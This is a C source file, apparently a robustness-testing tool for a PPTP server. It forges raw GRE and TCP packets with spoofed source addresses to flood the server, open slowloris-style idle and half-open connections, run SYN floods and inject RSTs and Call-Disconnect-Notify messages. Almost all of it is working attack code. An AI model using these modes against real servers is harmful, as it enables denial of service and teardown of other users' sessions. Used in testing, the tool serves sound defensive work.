/* spoof - what an attacker, or a broken peer, does to a PPTP server.
 *
 *   spoof gre SOURCE DESTINATION CALL-ID SEQUENCE STEP COUNT   GRE packets as if from SOURCE; sequence numbers go by STEP
 *   spoof flood SOURCE DESTINATION COUNT                       GRE packets with call ids by chance
 *   spoof idle ADDRESS PORT COUNT                              that many TCP connections that say nothing
 *   spoof half ADDRESS PORT COUNT                              the same, with half a Start-Control-Connection-Request each
 *   spoof junk ADDRESS PORT COUNT                              TCP connections with random bytes, one after the other
 *   spoof mute ADDRESS PORT                                    accepts, and never reads nor says a word
 *   spoof syn SOURCE ADDRESS PORT COUNT                        SYNs of TCP as if from the network SOURCE/24, never answered
 *   spoof inject SOURCE PORT DESTINATION PORT COUNT            TCP as if from SOURCE: RSTs, and Call-Disconnect-Notifies, by chance
 *
 * idle, half and mute print "ready" and stay until they are killed. Chance comes from a fixed seed. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

enum { PAYLOAD = 100, GRE_HEADER = 12, IP_HEADER = 20 };

static uint64_t seed = 42;

static void __attribute__((noreturn)) die(const char *what)
{
	fprintf(stderr, "spoof: %s: %s\n", what, strerror(errno));
	exit(1);
}

static uint32_t
chance(void)
{
	seed = seed * UINT64_C(6364136223846793005) + UINT64_C(1442695040888963407);
	return (uint32_t)(seed >> 32);
}

static struct in_addr
address(const char *text)
{
	struct in_addr a;

	if (inet_pton(AF_INET, text, &a) != 1) {
		fprintf(stderr, "spoof: %s is no IPv4 address\n", text);
		exit(2);
	}
	return a;
}

static unsigned
number(const char *text)
{
	return (unsigned)strtoul(text, NULL, 0);
}

/* --- GRE --- */

static void
put(uint8_t *p, uint32_t value, unsigned bytes)
{
	while (bytes-- > 0) {
		p[bytes] = (uint8_t)value;
		value >>= 8;
	}
}

/* RFC 2637 section 4.1: key and sequence number, and 0xff 0x03 0x00 0xfd (MPPE) in front of noise. */
static void
send_gre(int fd, struct in_addr from, struct in_addr to, unsigned call_id, uint32_t seq)
{
	uint8_t packet[IP_HEADER + GRE_HEADER + PAYLOAD] = {0x45}, *gre = packet + IP_HEADER, *ppp = gre + GRE_HEADER;
	struct sockaddr_in sin = {.sin_family = AF_INET, .sin_addr = to};

	put(packet + 2, sizeof(packet), 2);
	packet[8] = 64;
	packet[9] = IPPROTO_GRE;
	memcpy(packet + 12, &from, 4);
	memcpy(packet + 16, &to, 4);
	put(gre, 0x3001880b, 4);
	put(gre + 4, PAYLOAD, 2);
	put(gre + 6, call_id, 2);
	put(gre + 8, seq, 4);
	for (unsigned i = 0; i < PAYLOAD; i++)
		ppp[i] = (uint8_t)chance();
	put(ppp, 0xff0300fd, 4);
	if (sendto(fd, packet, sizeof(packet), 0, (struct sockaddr *)&sin, sizeof(sin)) < 0 && errno != ENOBUFS)
		die("sendto");
}

static int
raw_socket(void)
{
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

	if (fd < 0)
		die("raw socket");
	return fd;
}

static void
gre(char **args)
{
	struct in_addr from = address(args[0]), to = address(args[1]);
	unsigned call_id = number(args[2]), seq = number(args[3]), step = number(args[4]), count = number(args[5]);

	for (int fd = raw_socket(); count-- > 0; seq += step)
		send_gre(fd, from, to, call_id, seq);
}

static void
flood(char **args)
{
	struct in_addr from = address(args[0]), to = address(args[1]);
	unsigned count = number(args[2]);

	for (int fd = raw_socket(); count-- > 0;)
		send_gre(fd, from, to, chance() & 0xffff, chance());
}

/* --- TCP --- */

static struct sockaddr_in
endpoint(char **args)
{
	return (struct sockaddr_in){.sin_family = AF_INET, .sin_addr = address(args[0]), .sin_port = htons((uint16_t)number(args[1]))};
}

static int
dial(char **args)
{
	struct sockaddr_in sin = endpoint(args);
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	/* Let in and turned out again at once is fine. */
	if (fd < 0 || (connect(fd, (struct sockaddr *)&sin, sizeof(sin)) < 0 && errno != ECONNRESET))
		die("connect");
	return fd;
}

static void
stay(void)
{
	printf("ready\n");
	fflush(stdout);
	for (;;)
		pause();
}

static void
idle(char **args)
{
	for (unsigned n = number(args[2]); n > 0; n--)
		dial(args);
	stay();
}

static void
half(char **args)
{
	static const uint8_t start[78] = {0, 156, 0, 1, 0x1a, 0x2b, 0x3c, 0x4d, 0, 1, 0, 0, 1, 0};

	for (unsigned n = number(args[2]); n > 0; n--)
		if (send(dial(args), start, sizeof(start), MSG_NOSIGNAL) < 0 && errno != ECONNRESET && errno != EPIPE)
			die("send");
	stay();
}

/* Every other connection begins with a right header, so that the noise gets beyond it. */
static void
junk(char **args)
{
	static const uint8_t header[] = {0, 156, 0, 1, 0x1a, 0x2b, 0x3c, 0x4d, 0, 1};

	for (unsigned n = number(args[2]); n > 0; n--) {
		uint8_t noise[1024];
		int fd = dial(args);

		for (size_t i = 0; i < sizeof(noise); i++)
			noise[i] = (uint8_t)chance();
		if (n % 2 == 0)
			memcpy(noise, header, sizeof(header));
		send(fd, noise, 1 + chance() % sizeof(noise), MSG_NOSIGNAL);
		close(fd);
	}
}

static void
mute(char **args)
{
	struct sockaddr_in sin = endpoint(args);
	int fd = socket(AF_INET, SOCK_STREAM, 0), one = 1;

	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (fd < 0 || bind(fd, (struct sockaddr *)&sin, sizeof(sin)) < 0 || listen(fd, 1024) < 0)
		die("listen");
	printf("ready\n");
	fflush(stdout);
	while (accept(fd, NULL, NULL) >= 0 || errno == ECONNABORTED)
		;
	die("accept");
}

/* --- TCP by hand --- */

enum { TCP_HEADER = 20, PSEUDO = 12, RST = 4, SYN = 2, PSH_ACK = 0x18, NOTIFY = 148 };

static unsigned
checksum(const uint8_t *p, size_t len)
{
	uint32_t sum = 0;

	for (size_t i = 0; i < len; i++)
		sum += i % 2 == 0 ? (uint32_t)p[i] << 8 : p[i];
	while (sum >> 16 != 0)
		sum = (sum & 0xffff) + (sum >> 16);
	return ~sum & 0xffff;
}

static void
send_tcp(int fd, const struct sockaddr_in *from, const struct sockaddr_in *to, unsigned flags, const uint8_t *data, size_t len)
{
	/* The pseudo header stands where the end of the IP header will be. */
	uint8_t packet[IP_HEADER + TCP_HEADER + NOTIFY] = {0}, *tcp = packet + IP_HEADER, *pseudo = tcp - PSEUDO;

	memcpy(pseudo, &from->sin_addr, 4);
	memcpy(pseudo + 4, &to->sin_addr, 4);
	put(pseudo + 8, IPPROTO_TCP, 2);
	put(pseudo + 10, (uint32_t)(TCP_HEADER + len), 2);
	memcpy(tcp, &from->sin_port, 2);
	memcpy(tcp + 2, &to->sin_port, 2);
	put(tcp + 4, chance(), 4);
	put(tcp + 8, flags == SYN ? 0 : chance(), 4);
	put(tcp + 12, 0x5000 | flags, 2);
	put(tcp + 14, 65535, 2);
	if (len > 0)
		memcpy(tcp + TCP_HEADER, data, len);
	put(tcp + 16, checksum(pseudo, PSEUDO + TCP_HEADER + len), 2);
	memset(packet, 0, IP_HEADER);
	packet[0] = 0x45;
	put(packet + 2, (uint32_t)(IP_HEADER + TCP_HEADER + len), 2);
	packet[8] = 64;
	packet[9] = IPPROTO_TCP;
	memcpy(packet + 12, &from->sin_addr, 4);
	memcpy(packet + 16, &to->sin_addr, 4);
	if (sendto(fd, packet, IP_HEADER + TCP_HEADER + len, 0, (const struct sockaddr *)to, sizeof(*to)) < 0 && errno != ENOBUFS)
		die("sendto");
}

static void
syn(char **args)
{
	struct sockaddr_in from = {.sin_family = AF_INET, .sin_addr = address(args[0])}, to = endpoint(args + 1);
	uint32_t network = ntohl(from.sin_addr.s_addr) & 0xffffff00;
	unsigned count = number(args[3]);

	for (int fd = raw_socket(); count-- > 0;) {
		from.sin_addr.s_addr = htonl(network | (100 + chance() % 100));
		from.sin_port = htons((uint16_t)(1024 + chance() % 60000));
		send_tcp(fd, &from, &to, SYN, NULL, 0);
	}
}

static void
inject(char **args)
{
	/* Call-Disconnect-Notify, for each call id in turn. */
	uint8_t notify[NOTIFY] = {0, NOTIFY, 0, 1, 0x1a, 0x2b, 0x3c, 0x4d, 0, 13};
	struct sockaddr_in from = endpoint(args), to = endpoint(args + 2);
	unsigned count = number(args[4]);

	for (int fd = raw_socket(); count-- > 0;) {
		put(notify + 12, count, 2);
		send_tcp(fd, &from, &to, RST, NULL, 0);
		send_tcp(fd, &from, &to, PSH_ACK, notify, sizeof(notify));
	}
}

static const struct {
	const char *name;
	int args;
	void (*run)(char **args);
} attacks[] = {{"gre", 6, gre}, {"flood", 3, flood}, {"idle", 3, idle}, {"half", 3, half}, {"junk", 3, junk}, {"mute", 2, mute},
    {"syn", 4, syn}, {"inject", 5, inject}};

int
main(int argc, char **argv)
{
	struct rlimit files = {20000, 20000};

	setrlimit(RLIMIT_NOFILE, &files);
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
		if (argc == attacks[i].args + 2 && strcmp(argv[1], attacks[i].name) == 0) {
			attacks[i].run(argv + 2);
			return 0;
		}
	}
	fprintf(stderr, "usage: spoof gre|flood|idle|half|junk|mute|syn|inject ARGUMENT ...; the comment in spoof.c lists them\n");
	return 2;
}
